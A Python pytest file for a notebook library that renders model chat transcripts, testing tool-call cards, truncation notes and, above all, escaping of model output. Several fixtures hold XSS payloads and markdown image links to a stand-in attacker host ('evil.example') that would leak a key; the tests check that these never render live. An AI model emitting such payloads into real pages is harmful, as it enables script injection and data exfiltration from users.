"""Transcripts: built from events, rendered as html / markdown / plain with everything from the model escaped."""

from __future__ import annotations

import itertools
import re

import pytest

from glm_nb.chat import Done, PromptProgress, TextDelta, ThinkingDelta, ToolCallEvent, ToolResultEvent, Usage
from glm_nb.render import MIME_TYPE, Part, Transcript, TranscriptBuilder
from glm_nb.tools import ToolCall, ToolResult

HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def _build(events, answer=None, **template):
    ticks = itertools.count()
    builder = TranscriptBuilder(Transcript("chat", "m", "prompt", **template), clock=lambda: float(next(ticks)))
    for event in events:
        builder.add(event)
    return builder, builder.finish(answer)


def test_events_become_parts_in_order_with_tool_durations():
    call = ToolCall("get_weather", {"city": "Paris"})
    events = [
        ThinkingDelta("Let me "), ThinkingDelta("check."), TextDelta("Checking."), ToolCallEvent(call),
        ToolResultEvent(ToolResult.success(call, {"temp": 21})), TextDelta("It is "), TextDelta("21."),
        Done("stop", Usage(new_tokens=9)),
    ]  # fmt: skip

    _, t = _build(events)

    assert [p.kind for p in t.parts] == ["thinking", "text", "tool", "text"]
    assert t.thinking == "Let me check." and t.answer == "It is 21."
    card = t.tool_cards[0]
    assert card.status == "ok" and card.result == '{"temp": 21}' and card.duration_s == 1.0
    assert t.finish_reason == "stop" and t.usage.new_tokens == 9


def test_a_snapshot_shows_a_running_call_before_its_result():
    call = ToolCall("slow", {})
    builder, _ = _build([TextDelta("Wait."), ToolCallEvent(call)])

    snapshot = builder.snapshot()

    assert snapshot.streaming and snapshot.tool_cards[0].status == "running"


def test_research_actions_show_as_cards_not_as_json_text():
    call = ToolCall("search", {"query": "x"})
    ticks = itertools.count()
    builder = TranscriptBuilder(Transcript("rumination", "m", "q"), actions_as_text=False, clock=lambda: next(ticks))
    for event in [ThinkingDelta("hmm"), TextDelta('{"name": "search"}'), ToolCallEvent(call)]:
        builder.add(event)

    t = builder.finish("The report.", finish_reason="stop")

    assert [p.kind for p in t.parts] == ["thinking", "tool", "text"] and t.answer == "The report."


def test_nothing_from_the_model_or_a_tool_is_live_html():
    call = ToolCall("tool", {"arg": HOSTILE})
    events = [ThinkingDelta(HOSTILE), ToolCallEvent(call), ToolResultEvent(ToolResult.success(call, HOSTILE)),
              TextDelta(HOSTILE), Done("stop", Usage())]  # fmt: skip
    _, t = _build(events, thinking_display="shown")

    data, metadata = t._repr_mimebundle_()

    page = data["text/html"]
    assert "<script>alert" not in page and "<img" not in page and 'onerror="' not in page
    assert "&lt;script&gt;" in page
    assert "<script>" not in data["text/markdown"] and "&lt;script>" in data["text/markdown"]
    assert data[MIME_TYPE]["answer"] == HOSTILE  # the record keeps the text as written
    assert metadata["glm_nb"]["model"] == "m"


def test_markdown_fallback_keeps_code_blocks_verbatim():
    _, t = _build([TextDelta("Use <b>:\n\n```html\n<b>bold</b>\n```"), Done("stop", Usage())])

    markdown = t._repr_mimebundle_()[0]["text/markdown"]

    assert "Use &lt;b>:" in markdown and "```html\n<b>bold</b>\n```" in markdown


@pytest.mark.parametrize(
    "answer",
    [
        '<div>\n```\n\n```\n<img src="https://evil.example/leak?d=KEY" onerror="alert(1)">\n```\n',  # a fence moves
        "<!-- note -->\n    <img src=x onerror=alert(1)>\n",  # indented code after an HTML block
        "Done. ![status](https://evil.example/pixel.png?d=KEY)\n",  # an image fetches its address
        "```\nfoo\r```\r<img src=x onerror=alert(1)>\n",  # a lone carriage return ends a line too
    ],
)
def test_the_markdown_fallback_rendered_with_raw_html_on_holds_no_tag_and_no_image(answer):
    from markdown_it import MarkdownIt

    _, t = _build([TextDelta(answer), Done("stop", Usage())])
    rendered = MarkdownIt("commonmark", {"html": True}).render(t._repr_mimebundle_()[0]["text/markdown"])
    tags = re.findall(r"<([a-z]+)[^>]*>", rendered)  # what a browser would make elements of
    assert set(tags) <= {"p", "pre", "code", "em", "a"} and not re.search(r"<[a-z][^>]*onerror", rendered), tags


def _live_tags(markdown: str) -> tuple[set[str], bool]:
    """The elements a renderer with raw HTML on makes of `markdown`, and whether any has an `onerror`."""
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown)
    return set(re.findall(r"<([a-z]+)[^>]*>", rendered)), bool(re.search(r"<[a-z][^>]*onerror", rendered))


def test_a_fence_left_open_before_a_tool_call_does_not_unfence_the_code_after_it():
    call = ToolCall("search", {"q": "x"})
    events = [
        TextDelta("Looking:\n```"), ToolCallEvent(call), ToolResultEvent(ToolResult.success(call, "found")),
        TextDelta("```\n<img src=x onerror=alert(1)>"), Done("stop", Usage()),
    ]  # fmt: skip
    _, t = _build(events)

    tags, onerror = _live_tags(t._repr_mimebundle_()[0]["text/markdown"])

    assert tags <= {"p", "pre", "code", "em"} and not onerror, tags


@pytest.mark.parametrize(
    "first, second",
    [
        ("Options:\n- a\n- b", "  ```\n<img src=x onerror=alert(1)>\n  ```"),  # the second goes on with the list
        ("- ```\n  a", "  ```\n  <img src=x onerror=alert(1)>"),  # ... and closes the fence the first left open
    ],
)
def test_text_parts_side_by_side_under_hidden_thinking_are_escaped_as_one(first, second):
    from glm_nb.render.page import transcript_markdown

    parts = (Part("text", first), Part("thinking", "hmm"), Part("text", second))
    t = Transcript(
        "chat", "m", "Q", parts=parts, answer=first + second, finish_reason="stop", thinking_display="hidden"
    )

    tags, onerror = _live_tags(transcript_markdown(t))

    assert not onerror and "img" not in tags, tags


def test_an_answer_cut_off_inside_a_code_block_keeps_its_footer_out_of_the_code():
    _, t = _build([TextDelta("Here:\n\n```python\nfor i in range("), Done("length", Usage(new_tokens=7))])

    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").render(t._repr_mimebundle_()[0]["text/markdown"])

    assert "<em>m · 7 tokens · stopped at the token limit</em>" in rendered, rendered


def test_an_exported_prompt_ending_in_a_list_does_not_take_in_the_reply_under_it():
    from glm_nb.render.page import transcripts_markdown

    code = "  ```\n<img src=x onerror=alert(1)>\n  ```"  # alone: a fence, its line kept as written
    t = Transcript("chat", "m", "Compare:\n- a\n- b", parts=(Part("text", code),), answer=code, finish_reason="stop")

    tags, onerror = _live_tags(transcripts_markdown([t]))

    assert not onerror and "img" not in tags, tags


def test_json_that_does_not_parse_leaves_a_note_and_no_value():
    _, t = _build([TextDelta('{"a": 1,'), Done("stop", Usage())], output_format="json")

    assert t.value() is None and "does not parse" in t.note
    assert t._repr_mimebundle_()[0]["text/html"].count("does not parse") == 1  # once, above the source
    assert "does not parse" in t._repr_mimebundle_()[0]["text/plain"]


def test_svg_that_does_not_parse_is_explained_once_above_its_source():
    _, t = _build([TextDelta("```svg\n<svg><circle r='1'>\n```"), Done("stop", Usage())], output_format="svg")

    page = t._repr_mimebundle_()[0]["text/html"]

    assert t.artifacts[0].error and page.count("not well-formed") == 1
    assert "&lt;circle" in page and "<circle" not in page


def test_html_format_frames_the_answer_in_a_sandbox():
    _, t = _build([TextDelta("```html\n<button>hi</button>\n```"), Done("stop", Usage())], output_format="html")

    page = t._repr_mimebundle_()[0]["text/html"]

    assert t.artifacts[0].kind == "html" and "<button>" not in page
    assert 'sandbox=""' in page and "allow-scripts" not in page  # no script in the page: no button to run one


def test_an_interrupted_reply_says_so_everywhere():
    _, t = _build([TextDelta("Partial")])  # no Done: the stream was cut

    data, metadata = t._repr_mimebundle_()

    assert t.interrupted and metadata["glm_nb"]["finish_reason"] == "cancelled"
    assert "interrupted" in data["text/plain"] and "interrupted" in data["text/html"]


def test_a_reply_without_answer_text_says_why():
    _, cut_in_thinking = _build([ThinkingDelta("Still going"), Done("length", Usage())])
    _, silent = _build([Done("length", Usage())])

    assert "while still thinking" in cut_in_thinking.note and "-n" in cut_in_thinking.note
    assert "before writing any answer text" in silent.note
    assert silent.note in silent._repr_mimebundle_()[0]["text/plain"]


def test_a_thinking_the_model_ended_itself_says_there_is_no_answer_and_what_to_do():
    events = [ThinkingDelta("Maybe"), Done("stop", Usage(), stopped_in_thinking=True)]

    _, collapsed = _build(events)
    _, hidden = _build(events, thinking_display="hidden")

    assert "stopped while still thinking" in collapsed.note and "Ask again" in collapsed.note
    assert "open its thinking" in collapsed.note and "--thinking shown" in hidden.note
    for mime in ("text/html", "text/markdown", "text/plain"):
        assert "stopped while still thinking" in collapsed._repr_mimebundle_()[0][mime]


def test_a_thinking_ended_before_its_first_word_points_to_no_thinking():
    _, t = _build([Done("stop", Usage(), stopped_in_thinking=True)])

    assert t.note == "The model stopped as soon as it began thinking, so there is no answer. Ask again."


def test_a_last_turn_that_ends_inside_its_thinking_after_tool_rounds_still_says_why_there_is_no_answer():
    call = ToolCall("get_weather", {"city": "Paris"})
    rounds = [ToolCallEvent(call), ToolResultEvent(ToolResult.success(call, {"temp": 21})), ThinkingDelta("So")]

    _, stopped = _build([*rounds, Done("stop", Usage(), stopped_in_thinking=True)])
    _, cut = _build([*rounds, Done("length", Usage(), thinking_cut_off=True)])

    assert "stopped while still thinking" in stopped.note
    assert "token limit while still thinking" in cut.note


def test_a_call_written_without_tools_is_shown_as_the_answer_with_a_note_beside_the_format_one():
    events = [TextDelta('get_weather\n{"city": "Paris"}'), Done("stop", Usage(), undeclared_tool_call=True)]

    _, t = _build(events, output_format="json")

    assert t.answer == 'get_weather\n{"city": "Paris"}' and t.tool_cards == []
    assert t.note.startswith("The model stopped to call a tool, but this conversation gives it no tools: nothing was")
    assert "does not parse" in t.note  # the json format's own note stays


def test_a_reply_ended_at_a_repeat_of_a_failed_call_says_why_and_what_to_do():
    call = ToolCall("get_forecast", {"city": "Paris"})
    refused = ToolResult.failure(call, "invalid", "Unknown tool 'get_forecast'. Available tools: get_weather.")
    skipped = ToolResult.failure(call, "not_run", "Not run: this exact call already failed in this reply.")
    events = [ToolCallEvent(call), ToolResultEvent(refused), ToolCallEvent(call), ToolResultEvent(skipped)]

    _, t = _build([*events, Done("stop", Usage(), repeated_failed_call=True)])

    assert [c.status for c in t.tool_cards] == ["invalid", "not_run"]
    assert t.note.startswith("The model made again a tool call that had already failed") and "--tools" in t.note


def test_a_reply_ended_at_a_looping_call_says_why_and_what_to_do():
    call = ToolCall("get_weather", {"city": "Paris"})
    ran = ToolResultEvent(ToolResult.success(call, {"temp": 21}))
    why = "Not run: this exact call already ran twice in this reply and returned the same result both times."
    skipped = ToolResultEvent(ToolResult.failure(call, "not_run", why))
    events = [ToolCallEvent(call), ran, ToolCallEvent(call), ran, ToolCallEvent(call), skipped]

    _, t = _build([*events, Done("stop", Usage(), looping_call=True)])

    assert [c.status for c in t.tool_cards] == ["ok", "ok", "not_run"]
    assert t.note.startswith("The model made the same tool call a third time") and "Ask again" in t.note


def test_cards_without_a_result_are_settled_when_the_reply_ends():
    finish, handed_back = ToolCall("finish", {}), ToolCall("lookup", {"q": "x"})

    _, research = _build([ToolCallEvent(finish), TextDelta("Report."), Done("stop", Usage())])
    _, chat = _build([ToolCallEvent(handed_back), Done("tool_calls", Usage())])

    assert research.tool_cards[0].status == "ok"
    assert chat.tool_cards[0].status == "not_run"


def test_a_finish_card_is_done_when_research_reports_after_its_turns_ran_out():
    events = [ToolCallEvent(ToolCall("finish", {})), TextDelta("Report."), Done("round_limit", Usage())]

    _, research = _build(events, answer="Report.\n\n*The research used all its 2 turns…*")

    assert research.tool_cards[0].status == "ok"


def test_chinese_thinking_is_counted_by_characters_not_spaces():
    # Chinese has no spaces between words: split() would call this whole thought "1 words".
    thought = ThinkingDelta("用户问北京的天气，我先查一下。Then GLM answers.")
    _, t = _build([thought, TextDelta("晴。"), Done("stop", Usage())])

    data, _ = t._repr_mimebundle_()

    assert "Thinking (16 words)" in data["text/html"]  # 13 characters (not the commas) and 3 English words
    assert "[thinking: 16 words]" in data["text/plain"]


def test_research_out_of_turns_says_so_in_research_words_and_chat_keeps_its_own():
    research = Transcript("rumination", "m", "q", finish_reason="round_limit")
    chat = Transcript("chat", "m", "q", finish_reason="round_limit")

    research_plain = research._repr_mimebundle_()[0]["text/plain"]
    chat_plain = chat._repr_mimebundle_()[0]["text/plain"]

    assert research_plain.endswith("-- m · rumination · research turn limit") and "tool round" not in research_plain
    assert chat_plain.endswith("-- m · tool round limit")


def test_a_record_saved_mid_reply_does_not_claim_to_be_generating_forever():
    builder, _ = _build([TextDelta("Partial")])

    data, _ = builder.snapshot()._repr_mimebundle_()  # what a notebook saved mid-reply keeps for good

    # the fallback cannot know when it is read: it says what it means if it never changes
    for mime in ("text/html", "text/markdown", "text/plain"):
        assert "generating… (if this stays, the reply was saved before it ended)" in data[mime], data[mime]


def test_a_streaming_record_renders_a_finished_thinking_once_not_at_every_snapshot(monkeypatch):
    from glm_nb.render import markdown

    parsed = []
    for parser in (markdown._WITH_ARTIFACTS, markdown._PLAIN, markdown._BLOCKS):
        monkeypatch.setattr(
            parser, "parse", lambda text, *a, _parse=parser.parse, **k: parsed.append(text) or _parse(text, *a, **k)
        )
    markdown._plain_html.cache_clear()
    markdown.escape_markdown_html.cache_clear()
    thinking = "A long line of reasoning, step by step. " * 200
    builder = TranscriptBuilder(Transcript("z1", "m", "Why?"))
    builder.add(ThinkingDelta(thinking))
    for word in ("The", " answer", " is", " here."):
        builder.add(TextDelta(word))
        builder.snapshot()._repr_mimebundle_()

    assert sum(thinking in text for text in parsed) <= 3  # its HTML and markdown once each (fences: twice)
    assert builder.snapshot()._repr_mimebundle_()[0]["text/html"].count("step by step") == 200


def test_two_outputs_of_the_same_artifact_get_frames_of_their_own():
    from glm_nb.render.markdown import markdown_html

    text = "```html\n<button>Click</button>\n```"
    ids = [re.findall(r"glm-nb-frame-[0-9a-f]+", markdown_html(text)) for _ in range(2)]
    assert ids[0] and ids[1] and set(ids[0]).isdisjoint(ids[1])  # one page, two outputs: no shared element id


def test_while_a_long_prompt_is_read_the_live_record_says_how_far():
    builder = TranscriptBuilder(Transcript("chat", "m", "A long document…", note="Variables: doc."))
    builder.add(PromptProgress(1536, 6000))
    reading = builder.snapshot()
    assert reading.note == "Variables: doc. Reading the prompt: 1,536 of 6,000 tokens (26%)…"
    shown = reading._repr_mimebundle_()[0]
    assert reading.streaming and "Reading the prompt: 1,536 of 6,000 tokens" in shown["text/html"]
    builder.add(TextDelta("Hello"))
    assert builder.snapshot().note == "Variables: doc."  # the reply began: the note is gone
    builder.add(Done("stop", Usage(prompt_tokens=6000, new_tokens=1)))
    assert "Reading" not in builder.finish().note
